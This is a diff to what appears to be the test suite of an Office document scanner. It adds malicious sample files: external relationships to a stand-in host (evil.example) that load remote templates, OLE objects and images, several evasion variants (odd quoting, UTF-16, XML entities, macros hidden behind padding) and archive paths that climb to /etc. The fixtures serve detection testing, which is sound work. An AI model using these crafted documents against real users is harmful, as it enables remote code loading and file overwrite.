@@ -13,6 +13,9 @@ MACRO_TYPES = TYPES.replace(
 RELATION = b'<Relationships><Relationship Type="http://schemas/relationships/%s" Target="http://evil.example/t" TargetMode="External"/></Relationships>'
 
 
+STEALTHY = b"<Relationships><Relationship TargetMode = 'External' Target='//evil.example/x' Type = 'http://schemas/relationships/%s'/></Relationships>"
+
+
 def office(kind: str = "docx", types: bytes = TYPES, **_: object) -> bytes:
     return package({"[Content_Types].xml": types, PARTS[kind]: b"<w/>"})
 
@@ -78,6 +81,31 @@ MEAN: dict[str, tuple[str, bytes]] = {
         with_part("word/_rels/settings.xml.rels", RELATION % b"attachedTemplate"),
     ),
     "a part from elsewhere": ("a.docx", with_part("word/_rels/document.xml.rels", RELATION % b"oleObject")),
+    "a part from elsewhere in other quotes": (
+        "a.docx",
+        with_part("word/_rels/document.xml.rels", STEALTHY % b"oleObject"),
+    ),
+    "a part from elsewhere in another encoding": (
+        "a.docx",
+        with_part(
+            "word/_rels/document.xml.rels",
+            ('<?xml version="1.0" encoding="utf-16"?>' + (RELATION % b"frame").decode()).encode("utf-16"),
+        ),
+    ),
+    "a picture from elsewhere": ("a.docx", with_part("word/_rels/document.xml.rels", RELATION % b"image")),
+    "a picture from elsewhere in a workbook": (
+        "a.xlsx",
+        with_part("xl/drawings/_rels/drawing1.xml.rels", RELATION % b"image", kind="xlsx"),
+    ),
+    "entities in its list of parts": (
+        "a.docx",
+        with_part("word/_rels/document.xml.rels", b"<!DOCTYPE r [<!ENTITY e 'External'>]>" + RELATION % b"hyperlink"),
+    ),
+    "no list of parts at all": ("a.docx", with_part("word/_rels/document.xml.rels", b"<Relationships>")),
+    "macros behind a megabyte of nothing": (
+        "a.docx",
+        office(types=MACRO_TYPES.replace(b"<Override", b"<!--" + b" " * 1024 * 1024 + b"--><Override")),
+    ),
     "a part that climbs": ("a.docx", with_part("../../../etc/cron.d/x")),
     "a part that climbs backwards": ("a.docx", with_part("..\\..\\x")),
     "a part at the root": ("a.docx", with_part("/etc/passwd")),
